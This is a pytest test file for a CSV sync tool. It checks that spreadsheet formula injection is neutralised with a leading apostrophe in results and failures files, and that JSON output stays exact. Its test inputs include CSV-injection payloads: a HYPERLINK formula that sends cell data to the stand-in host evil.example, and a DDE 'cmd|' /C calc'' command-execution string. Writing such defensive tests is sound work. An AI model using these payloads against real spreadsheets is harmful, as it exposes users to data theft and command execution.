"""Results and failures files are safe to open in Excel; --json stays exact; failures round-trip.

Formula-like cells (beginning with = + - @, tab, CR, LF or NUL, but not a phone number or a
signed number: syncer.formulas) get a leading apostrophe (OWASP CSV injection), in the source's
own columns and in messages echoed from the server alike.
"""

from __future__ import annotations

import csv
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from syncer.formulas import is_formula_like
from syncer.sandbox import SandboxHandle

from .robust_helpers import invoke, results_rows, write_mapping

pytestmark = pytest.mark.timeout(60)

DANGER = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1\x00",
    "'=already quoted by hand",
    "plain name",
]
ROUND_TRIP_MAPPING = """\
target: account_contact
columns:
  email: Email
  first_name: First Name
  title: Title
"""


def write_source(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["Email", "First Name", "Title"])
        w.writerows(rows)
    return path


def assert_excel_safe(path: Path) -> list[dict[str, str]]:
    """No cell of ``path`` (header included) is one a spreadsheet could run as a formula: a
    cell beginning with a trigger character is plain arithmetic on digits (-2+3) at most."""
    with path.open(newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    for r, row in enumerate(table):
        for c, cell in enumerate(row):
            assert not is_formula_like(cell), f"{path.name} row {r} col {c}: {cell!r}"
            if cell.startswith(DANGER):
                assert set(cell) <= set("+-0123456789 ().,/"), f"{path.name} {r}/{c}: {cell!r}"
    return results_rows(path)


# ---------------------------------------------------------------------------------------------
# a tiny Reevo stand-in whose 422 echoes the row's first name (the sandbox never starts a
# message with "=", a real server might)
# ---------------------------------------------------------------------------------------------


class _Echo(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"] or 0)) or b"{}")
        if not body:  # the preflight probe
            detail = [{"loc": ["body", "email"], "msg": "Field required", "type": "missing"}]
        else:
            detail = [{"loc": ["body"], "msg": body.get("first_name", "?"), "type": "value"}]
        raw = json.dumps({"detail": detail}).encode()
        self.send_response(422)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def echo_server() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    thread.join(5)


def test_server_messages_and_source_cells_are_neutralised(
    echo_server: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    rows = [[f"p{i}@firm.example", name, name] for i, name in enumerate(HOSTILE)]
    rows.append(["=bad@", "=1+1", "@x"])  # invalid locally: its own message, still safe
    src = write_source(tmp_path / "hostile.csv", rows)
    res = invoke(
        "run", src, "--mapping", write_mapping(tmp_path, ROUND_TRIP_MAPPING), "--json",
        "--quiet", "--ledger", tmp_path / "l.db", api_key="k" * 24, base_url=echo_server,
    )  # fmt: skip
    assert res.code == 1, res.stderr
    out = assert_excel_safe(tmp_path / "hostile.results.csv")
    failed = [r for r in out if r["status"] == "failed"]
    assert len(failed) == len(HOSTILE)
    for r in failed:  # the echoed message is kept, behind an apostrophe when it needs one
        shown = r["error"]
        assert shown.lstrip("'") != "" and (shown[0] != "'" or shown[1] in (*DANGER, "'"))
    assert_excel_safe(tmp_path / "hostile.failures.csv")
    # the machine-readable summary is not touched by the Excel treatment
    summary = res.json
    assert summary["failed"] == len(HOSTILE) and summary["invalid"] == 1
    assert summary["results"] == str(tmp_path / "hostile.results.csv")


def test_json_carries_the_server_message_exactly(
    echo_server: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    evil = '=HYPERLINK("http://evil.example","x")'
    src = write_source(tmp_path / "same.csv", [[f"s{i}@firm.example", evil, ""] for i in range(40)])
    res = invoke(
        "run", src, "--mapping", write_mapping(tmp_path, ROUND_TRIP_MAPPING), "--json",
        "--quiet", "--breaker", "5", "--concurrency", "1", "--ledger", tmp_path / "l.db",
        api_key="k" * 24, base_url=echo_server,
    )  # fmt: skip
    assert res.code == 3, res.stderr
    assert f"the same error: {evil}." in res.json["aborted"]  # exact, no apostrophe
    out = assert_excel_safe(tmp_path / "same.results.csv")
    assert {r["error"] for r in out if r["status"] == "failed"} == {"'" + evil}


def test_failures_file_round_trips_as_input(
    live_sandbox: SandboxHandle, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Fix the e-mails of a failures file (cells still neutralised, as a script would leave
    them) and run it: Reevo gets the original values, not the apostrophes."""
    monkeypatch.chdir(tmp_path)
    mapping = write_mapping(tmp_path, ROUND_TRIP_MAPPING)
    rows = [[f"broken{i}@", name, name] for i, name in enumerate(HOSTILE)]
    src = write_source(tmp_path / "in.csv", rows)
    res = invoke("validate", src, "--mapping", mapping)
    assert res.code == 1
    failures = tmp_path / "in.failures.csv"
    assert_excel_safe(failures)
    fixed = tmp_path / "fixed.csv"
    with failures.open(newline="", encoding="utf-8") as fh, fixed.open("w", newline="") as out:
        reader = csv.DictReader(fh)
        assert reader.fieldnames is not None
        writer = csv.DictWriter(out, fieldnames=reader.fieldnames)
        writer.writeheader()
        for r in reader:
            writer.writerow({**r, "Email": r["Email"] + "firm.example"})
    # the same rows straight from a hand-made file, for comparison
    same = [[f"direct{i}@firm.example", n, n] for i, n in enumerate(HOSTILE)]
    direct = write_source(tmp_path / "direct.csv", same)
    sb = live_sandbox
    for path in (fixed, direct):
        done = invoke("run", path, "--mapping", mapping, "--json", "--quiet", "--ledger",
                      tmp_path / "l.db", api_key=sb.api_key, base_url=sb.base_url)  # fmt: skip
        assert done.code == 0, done.stderr
    stored = {c["email"]: c for c in sb.admin.dump()["contacts"]}
    for i, name in enumerate(HOSTILE):
        got = stored[f"broken{i}@firm.example"]
        want = stored[f"direct{i}@firm.example"]
        assert (got["first_name"], got["title"]) == (want["first_name"], want["title"]), name
        if not name.startswith("'"):  # (a leading apostrophe is read as a text marker)
            assert got["first_name"] in (name, name.strip()), name
